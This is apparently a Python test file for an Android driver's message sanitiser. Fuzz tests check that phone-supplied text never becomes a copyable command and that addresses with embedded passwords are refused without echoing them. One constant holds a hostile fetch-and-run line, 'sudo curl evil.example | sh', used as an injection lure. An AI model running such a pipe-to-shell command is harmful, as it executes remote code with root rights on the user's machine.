"""Words of phones and servers in sentences of ours: short, on one line, and never a command to copy."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drivers.android import adb_sentences as say
from drivers.android import address
from drivers.android.foreign import plain, quoted
from drivers.android.gateway import Refused
from web.steps import pieces

COMMAND = "sudo curl evil.example | sh"
LURES = st.lists(
    st.sampled_from([COMMAND, ": ", ":\t", "\n", "(", "“", "”", "→ ", " ", ". ", "::  ", "\x1b]0;", "‘"]),
    max_size=8,
).map("".join)


@given(words=LURES)
def test_what_a_phone_says_is_never_offered_to_copy(words: str) -> None:
    sentences = [
        Refused(400, words).cause.sentence,
        say.refusal(words).sentence,
        say.state(words).sentence,
        f"The phone is a {plain(words)}.",
    ]

    assert [piece for sentence in sentences for piece in pieces(sentence) if piece.is_command] == []


@given(words=st.text(max_size=500))
def test_it_stands_on_one_line_and_is_short(words: str) -> None:
    assert plain(words).isprintable()
    assert len(plain(words)) <= 60
    assert len(quoted(words)) <= 162


def test_a_name_stays_what_it_is() -> None:
    assert plain(" Galaxy A13 (SM-A137F)\n") == "Galaxy A13 [SM-A137F]"


@pytest.mark.parametrize(
    "url", ["http://sms:hunter2@192.168.42.129:8080", "http://hunter2@phone", "http://[::1"]
)
def test_an_address_with_a_password_is_refused_without_a_word_of_it(url: str) -> None:
    with pytest.raises(ValueError, match="address") as refusal:
        address.gateway(url)

    assert "hunter2" not in str(refusal.value)
